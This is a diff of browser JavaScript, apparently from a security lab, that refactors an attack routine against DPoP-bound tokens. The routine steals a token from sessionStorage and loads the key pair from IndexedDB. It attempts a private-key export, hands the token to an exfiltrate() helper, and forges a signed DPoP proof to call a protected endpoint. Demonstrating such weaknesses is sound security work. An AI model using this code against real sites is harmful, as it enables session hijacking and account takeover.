@@ -95,7 +95,7 @@
     const token = window.sessionStorage.getItem(DPOP_TOKEN_KEY)
     if (!token) return
     const key = await new Promise((resolve) => {
-      const open = indexedDB.open('lab-dpop')
+      const open = window.indexedDB.open('lab-dpop')
       open.onerror = () => resolve(null)
       open.onsuccess = () => {
         try {
@@ -108,19 +108,19 @@
       }
     })
     if (!key) return
-    const exported = await crypto.subtle.exportKey('pkcs8', key.privateKey).then(
+    const exported = await window.crypto.subtle.exportKey('pkcs8', key.privateKey).then(
       () => 'exported',
       (error) => error.name,
     )
     const replay = await exfiltrate('jwt-dpop', { kind: 'bearer', token })
     // A proof signed in place (RFC 9449 §4.2): WebCrypto's ECDSA signature is already in JWS form.
-    const b64 = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
-    const text = (value) => b64(new TextEncoder().encode(JSON.stringify(value)))
+    const b64 = (bytes) => window.btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
+    const text = (value) => b64(new window.TextEncoder().encode(JSON.stringify(value)))
     const url = new URL('/api/jwt-dpop/me', location.href).href
-    const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', key.publicKey)
-    const ath = b64(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(token)))
-    const input = `${text({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } })}.${text({ jti: crypto.randomUUID(), htm: 'GET', htu: url, iat: Math.floor(Date.now() / 1000), ath })}`
-    const signature = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key.privateKey, new TextEncoder().encode(input))
+    const { kty, crv, x, y } = await window.crypto.subtle.exportKey('jwk', key.publicKey)
+    const ath = b64(await window.crypto.subtle.digest('SHA-256', new window.TextEncoder().encode(token)))
+    const input = `${text({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } })}.${text({ jti: window.crypto.randomUUID(), htm: 'GET', htu: url, iat: Math.floor(Date.now() / 1000), ath })}`
+    const signature = await window.crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key.privateKey, new window.TextEncoder().encode(input))
     const me = await send(url, { headers: { authorization: `DPoP ${token}`, dpop: `${input}.${b64(signature)}` } })
     const meBody = await me.json().catch(() => null)
     report({
